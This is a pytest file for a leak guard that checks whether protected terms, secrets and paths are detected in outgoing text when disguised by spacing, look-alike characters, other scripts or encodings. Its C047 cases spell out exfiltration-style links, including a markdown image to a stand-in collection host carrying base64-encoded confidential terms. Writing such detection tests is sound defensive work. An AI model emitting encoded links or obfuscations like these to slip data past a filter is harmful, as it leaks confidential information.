"""Protected terms: what names a term, what only looks like one, and who may be told."""

from __future__ import annotations

import pytest

from dragoman.errors import DragomanError
from dragoman.leaks import Engine, Guard, Hit, Kind, Terms

TERMS = {
    "acme": ["Falcon", "42.5", "floor=12", "Acme Steel GmbH", "1,250,000", "ace", "4250", "C++", "$42", "Ω7"],
    "northwind": ["Northwind", "猎鹰项目", "Сокол", "ハヤブサ", "q3", "sk-test-EXAMPLE0000000000000000"],
}


@pytest.fixture(scope="module")
def guard(engine: Engine) -> Guard:
    """A guard of `TERMS` over each engine."""
    return Guard(Terms(TERMS, engine=engine))


NAMED = (
    # text, what in it names a term
    ("the falcon project", "falcon"),
    ("(FALCON)", "FALCON"),
    ("Falcon's plan", "Falcon"),
    ("给Falcon发货", "Falcon"),
    ("F a l c o n", "F a l c o n"),
    ("F-a-l-c-o-n", "F-a-l-c-o-n"),
    ("F.a.l.c.o.n", "F.a.l.c.o.n"),
    ("F  a  l  c  o  n", "F  a  l  c  o  n"),
    ("Fal-con", "Fal-con"),
    ("Fal-\ncon", "Fal-\ncon"),
    ("Fal**con**", "Fal**con"),
    ("falcon2 falcon_x", "falcon"),
    ("v2falcon", "falcon"),
    ("price 42.5 net", "42.5"),
    ("price 42,5 net", "42,5"),
    ("price 4 2 . 5 net", "4 2 . 5"),
    ("４２．５", "４２．５"),
    ("EUR42.5", "42.5"),
    ("1250000 pieces", "1250000"),
    ("1.250.000 pieces", "1.250.000"),
    ("1 250 000 pieces", "1 250 000"),
    ("1/250/000", "1/250/000"),
    ("4 250", "4 250"),
    ("4,250", "4,250"),
    ("4.2.5.0", "4.2.5.0"),
    ("4100,4250", "4250"),
    ("floor 12", "floor 12"),
    ("floor = 1 2", "floor = 1 2"),
    ("acme  steel\nGmbH", "acme  steel\nGmbH"),
    ("acmesteelgmbh", "acmesteelgmbh"),
    ("acme-steel-gmbh.pdf", "acme-steel-gmbh"),
    ("an ace here", "ace"),
    ("C++ work", "C"),
    ("pay $42 now", "42"),
    ("我们的猎鹰项目进展", "猎鹰项目"),
    ("猎 鹰 项 目", "猎 鹰 项 目"),
    ("猎，鹰，项，目", "猎，鹰，项，目"),
    ("猎鹰\n项目", "猎鹰\n项目"),
    ("проект Сокол", "Сокол"),
    ("ﾊﾔﾌﾞｻです", "ﾊﾔﾌﾞｻ"),
    ("Q3 plan", "Q3"),
    ("sk‐test‐EXAMPLE0000000000000000", "sk‐test‐EXAMPLE0000000000000000"),
    (
        "s k - t e s t - E X A M P L E 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0",
        "s k - t e s t - E X A M P L E 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0",
    ),
    ("see https://x.example/?q=%46alcon", "%46alcon"),
    ("acme%20steel%20gmbh", "acme%20steel%20gmbh"),
    ("x RmFsY29uIGlzIG91cnM= y", "RmFsY29uIGlzIG91cnM"),
)

NOT_NAMED = (
    "falconer and falconry",
    "place, pace, aces",
    "Fal con",
    "425 pieces",
    "4 25 pieces",
    "142.5 and 42.57 and 42.5.1",
    "14250 or 42501",
    "42.50",
    "1,250,001",
    "we see plus, c, c#",
    "42 now, $420",
    "猎鹰，项目",
    "猎人和老鹰的项目",
    "q 3",
    "q30",
    "acme was here; the steel, " + "." * 9 + " gmbh",
    "the floor is 112",
)


@pytest.mark.parametrize(("text", "named"), NAMED)
def test_term_is_found_however_it_is_written(guard: Guard, text: str, named: str) -> None:
    """Case, width, look-alikes, spelling out, other separators and encodings still name the term."""
    found = {text[hit.start : hit.end] for hit in guard.scan(text) if hit.kind is Kind.TERM}

    assert {named} == found


@pytest.mark.parametrize("text", NOT_NAMED)
def test_what_only_contains_the_letters_is_not_the_term(guard: Guard, text: str) -> None:
    """A part of a longer word or number, or the pieces of a term far apart, name nothing."""
    assert guard.scan(text) == ()


def test_own_terms_are_allowed_and_only_those(guard: Guard) -> None:
    """A target that owns a term may be told it; another party's stays guarded; nobody owns anything by default."""
    text = "Falcon and Northwind"

    assert [text[hit.start : hit.end] for hit in guard.scan(text, frozenset({"acme"}))] == ["Northwind"]
    assert len(guard.scan(text)) == 2
    assert guard.scan(text, frozenset({"acme", "northwind"})) == ()


def test_shared_term_is_allowed_to_each_owner(engine: Engine) -> None:
    """A term that two parties gave, in whatever spelling folds alike, may be told to either of them."""
    guard = Guard(Terms({"a": ["Falcon"], "b": ["FALCON"], "c": ["x-ray"]}, engine=engine))

    assert guard.scan("falcon", frozenset({"a"})) + guard.scan("falcon", frozenset({"b"})) == ()
    assert len(guard.scan("falcon", frozenset({"c"}))) == 1


def test_own_name_does_not_shelter_another_partys_term(engine: Engine) -> None:
    """`Acme` of one party stays guarded inside `Acme Steel` of the other."""
    guard = Guard(Terms({"a": ["Acme Steel"], "b": ["Acme"]}, engine=engine))

    assert len(guard.scan("Acme Steel", frozenset({"a"}))) == 1


def test_terms_can_be_left_out_but_secrets_never(guard: Guard) -> None:
    """For an internal target terms are not checked, secrets and paths still are."""
    hits = guard.scan("Falcon in /home/kim/x", terms=False)

    assert [hit.kind for hit in hits] == [Kind.PATH]


def test_hit_says_where_but_neither_what_nor_whose(guard: Guard) -> None:
    """A hit is a place, a kind and an ordinal that does not depend on the order of the policy."""
    (hit,) = guard.scan("the falcon")
    again = Guard(Terms({owner: list(reversed(terms)) for owner, terms in reversed(TERMS.items())}))

    assert (hit.start, hit.end, hit.kind) == (4, 10, Kind.TERM)
    assert hit.rule.startswith("term:")
    assert hit.rule[5:].isdigit()
    assert (hit,) == again.scan("the falcon")
    assert {"start", "end", "kind", "rule"} == set(Hit.__struct_fields__)


@pytest.mark.parametrize(
    "owned",
    [
        {"a": [""]},
        {"a": ["..."]},
        {"a": ["\u200b"]},
        {"": ["x"]},
        {"a": "Falcon"},
        {"a": [7]},
        {"a": ["x" * 257]},
    ],
)
def test_bad_terms_are_refused_without_being_repeated(owned: dict[str, list[str]]) -> None:
    """An empty, mark-only, endless or wrongly typed term is a broken policy; the error does not quote it."""
    with pytest.raises(DragomanError) as caught:
        Terms(owned)

    assert caught.value.code == "policy_invalid"
    assert "Falcon" not in str(caught.value)


def test_nothing_to_say_holds_nothing(guard: Guard) -> None:
    """Empty and wholly invisible texts are clean, and a guard without terms works."""
    assert guard.scan("") + guard.scan("\u200b\u200b") + Guard(Terms({})).scan("Falcon") == ()


def test_text_too_long_is_an_error_not_a_pass(guard: Guard) -> None:
    """A text beyond the limit raises, so that the caller holds it."""
    with pytest.raises(DragomanError, match="input_too_large"):
        guard.scan("x " * 500_001)


LINKS = (
    # case C047: a link must not carry a term out in an encoding
    ("Dates: 6 and 13. More: https://collect.example/p/Tm9ydGh3aW5kIGZsb29yPTEy", True),
    ("![ok](https://collect.example/i.png?d=Tm9ydGh3aW5kIGZsb29yPTEy)", True),
    ("Dates: 6 and 13. More: https://collect.example/p/%4eorthwind", True),
    ("Dates: 6 and 13. More: https://collect.example/p/%254eorthwind", True),
    ("Dates: 6 and 13. More: https://collect.example/p/xTm9ydGh3aW5kIGZsb29yPTEy", True),
    ("Dates: 6 and 13. See https://acme.example/dates", False),
)


@pytest.mark.parametrize(("text", "held"), LINKS)
def test_link_with_an_encoded_term_is_found(guard: Guard, text: str, held: bool) -> None:
    """Case C047: base64 and percent-encoded terms in links are hits, a plain link is not."""
    assert held == bool(guard.scan(text))


def test_addition_after_the_check_is_only_found_in_the_assembled_text(guard: Guard) -> None:
    """Case C048: the check is for the finished text; a late addition that names a term or key turns it into a hit."""
    assert guard.scan("6 October is free.") == ()
    assert guard.scan("6 October is free." + "\n-- sent from Falcon")
